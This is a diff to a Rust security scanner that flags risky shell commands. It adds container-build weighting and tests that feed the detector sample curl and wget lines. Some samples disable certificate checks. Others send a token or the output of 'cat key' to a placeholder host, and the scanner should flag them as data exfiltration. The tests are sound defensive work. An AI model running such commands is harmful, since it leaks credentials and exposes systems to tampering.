@@ -78,6 +78,19 @@ impl Detector for Commands {
 pub(in crate::findings) struct At {
     pub(in crate::findings) place: Place,
     pub(in crate::findings) line: u32,
+    /// Whether it runs while an image is built: its files are those of the image alone.
+    pub(in crate::findings) in_image: bool,
+}
+
+impl At {
+    /// Weighs that files are removed or written over.
+    pub(super) fn of_files(&self, severity: Severity) -> Severity {
+        if self.in_image {
+            severity.min(Severity::Low)
+        } else {
+            severity
+        }
+    }
 }
 
 /// Names the place of a script under a key.
@@ -86,7 +99,11 @@ pub(in crate::findings) fn at(place: &Place, key: &str, line: u32) -> At {
         pointer: format!("{}/{key}", place.pointer),
         identity: format!("{}/{key}", place.identity),
     };
-    At { place, line }
+    At {
+        place,
+        line,
+        in_image: false,
+    }
 }
 
 /// Judges lines that a patch adds to scripts; a container build is read by rules of its own.
@@ -98,6 +115,7 @@ fn lines(input: &Input<'_>, seen: &mut Vec<Observation>) {
         let at = At {
             place: Place::default(),
             line: number,
+            in_image: false,
         };
         script(run.trim_start().trim_start_matches("RUN "), &at, 0, seen);
     }
@@ -294,11 +312,48 @@ mod tests {
             &["ls", "-la"][..],
             &["git", "status"],
             &["curl", "-s", "https://x.test/a.json"],
+            &[
+                "curl",
+                "-fsSLo",
+                "/tmp/k",
+                "https://x.test/${K_VERSION}/bin/$ARCH/k",
+            ],
             &["rm", "file"],
         ] {
             assert_eq!(found(argv), [], "{argv:?}");
         }
         assert_eq!(worst("echo 'a | sh' > out.txt"), Severity::Info);
+    }
+
+    #[test]
+    fn an_answer_that_nobody_checks_is_told() {
+        for argv in [
+            &["curl", "-fsSLk", "https://x.test/a"][..],
+            &["curl", "--insecure", "https://x.test/a"],
+            &["wget", "--no-check-certificate", "https://x.test/a"],
+        ] {
+            assert_eq!(
+                found(argv),
+                [("shell-unverified".to_owned(), Severity::Medium)],
+                "{argv:?}"
+            );
+        }
+        assert_eq!(found(&["curl", "-ks", "https://localhost:8443/health"]), []);
+    }
+
+    #[test]
+    fn a_value_in_an_address_is_sent_unless_it_names_a_release() {
+        for address in [
+            "https://x.test/?q=$TOKEN",
+            "https://x.test/$(cat key)",
+            "https://x.test/${V:-$S}",
+        ] {
+            let told = found(&["curl", "-s", address]);
+            assert!(
+                told.iter().any(|it| it.0 == "shell-sends-data"),
+                "{address}: {told:?}"
+            );
+        }
     }
 
     #[test]
@@ -357,7 +412,7 @@ mod tests {
         #[test]
         fn never_panics(text in "[a-z $()`'\"\\\\|&;<>#\n-]{0,60}") {
             let mut seen = Vec::new();
-            script(&text, &At { place: Place::default(), line: 1 }, 0, &mut seen);
+            script(&text, &At { place: Place::default(), line: 1, in_image: false }, 0, &mut seen);
         }
     }
 }
